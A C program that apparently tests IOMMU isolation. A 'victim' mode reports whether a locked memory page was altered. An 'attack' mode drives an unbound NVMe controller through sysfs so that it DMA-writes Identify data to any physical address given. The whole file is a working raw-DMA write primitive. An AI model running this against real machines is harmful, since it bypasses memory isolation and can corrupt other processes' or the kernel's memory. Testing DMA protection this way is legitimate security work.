/* Where an NVMe controller may write to:
 *   dma victim            holds a page of this machine's memory above 256 MiB, says its physical address, and once its input ends,
 *                         whether the page is as it was
 *   dma attack ADDRESS    has the controller 0000:00:01.0, of which no driver may know, write to that physical address, and then to
 *                         memory of this machine; says what comes of each (NVM Express Base 1.4 §3.1, §4.2, §5.15) */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define PAGE 4096
#define LEAST_ADDRESS (256ul << 20)
#define PAGES_TRIED 262144
#define FUNCTION "/sys/bus/pci/devices/0000:00:01.0/"
#define REGISTERS 0x2000
#define ENTRIES 16
#define WAITS 3000
#define WAIT_US 10000

enum { CC = 0x14, CSTS = 0x1c, AQA = 0x24, ASQ = 0x28, ACQ = 0x30, SQ_DOORBELL = 0x1000, CQ_DOORBELL = 0x1004 };

static volatile uint8_t *registers;
static volatile uint32_t *submission, *completion;

static void fail(const char *what)
{
	fprintf(stderr, "dma: %s: %s\n", what, strerror(errno));
	exit(1);
}

static uint64_t physical(const volatile void *page)
{
	uint64_t entry;
	int fd = open("/proc/self/pagemap", O_RDONLY);

	if (fd < 0 || pread(fd, &entry, 8, (uintptr_t)page / PAGE * 8) != 8)
		fail("pagemap");
	close(fd);
	return (entry & ((1ull << 55) - 1)) * PAGE;
}

static void *new_page(void)
{
	void *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE | MAP_LOCKED, -1, 0);

	if (page == MAP_FAILED)
		fail("mmap");
	return page;
}

static void write32(int offset, uint32_t value)
{
	*(volatile uint32_t *)(registers + offset) = value;
}

static void write64(int offset, uint64_t value)
{
	write32(offset, (uint32_t)value);
	write32(offset + 4, (uint32_t)(value >> 32));
}

static void wait_ready(uint32_t ready)
{
	for (int i = 0; i < WAITS; i++) {
		if ((*(volatile uint32_t *)(registers + CSTS) & 1) == ready)
			return;
		usleep(WAIT_US);
	}
	fail("the controller is not ready");
}

/* Identify Controller, its 4 KiB of data to `address`: the status field, 0 if it went well. */
static int identify(int index, uint64_t address)
{
	volatile uint32_t *command = submission + 16 * index, *answer = completion + 4 * index;

	memset((void *)command, 0, 64);
	command[0] = 0x06 | (uint32_t)(index + 1) << 16;
	command[6] = (uint32_t)address;
	command[7] = (uint32_t)(address >> 32);
	command[10] = 1;
	__sync_synchronize();
	write32(SQ_DOORBELL, index + 1);
	for (int i = 0; i < WAITS; i++) {
		if ((answer[3] >> 16 & 1) != 0) {
			write32(CQ_DOORBELL, index + 1);
			return answer[3] >> 17 & 0x7fff;
		}
		usleep(WAIT_US);
	}
	return -1;
}

static int attack(uint64_t target)
{
	const uint16_t command = 0x0006;
	int config = open(FUNCTION "config", O_RDWR), memory = open(FUNCTION "resource0", O_RDWR);
	uint8_t *own = new_page();

	if (config < 0 || memory < 0 || pwrite(config, &command, 2, 4) != 2)
		fail(FUNCTION);
	registers = mmap(NULL, REGISTERS, PROT_READ | PROT_WRITE, MAP_SHARED, memory, 0);
	if (registers == MAP_FAILED)
		fail("resource0");
	submission = new_page();
	completion = new_page();
	write32(CC, 0);
	wait_ready(0);
	write32(AQA, (ENTRIES - 1) << 16 | (ENTRIES - 1));
	write64(ASQ, physical(submission));
	write64(ACQ, physical(completion));
	write32(CC, 6 << 16 | 4 << 20 | 1);
	wait_ready(1);
	/* Of what the IOMMU has stopped, a controller may say that it went well. */
	printf("outside %s\n", identify(0, target) < 0 ? "unanswered" : "answered");
	printf("inside %s\n", identify(1, physical(own)) == 0 && (own[0] | own[1]) != 0 ? "written" : "not written");
	return 0;
}

static int victim(void)
{
	uint8_t *page = NULL, pattern[PAGE];

	memset(pattern, 0xa5, PAGE);
	for (int i = 0; i < PAGES_TRIED && (page == NULL || physical(page) < LEAST_ADDRESS); i++)
		memcpy(page = new_page(), pattern, PAGE);
	printf("0x%llx\n", (unsigned long long)physical(page));
	fflush(stdout);
	while (getchar() != EOF)
		;
	printf("%s\n", memcmp(page, pattern, PAGE) == 0 ? "unchanged" : "changed");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "attack") == 0)
		return attack(strtoull(argv[2], NULL, 16));
	return argc == 2 && strcmp(argv[1], "victim") == 0 ? victim() : 1;
}
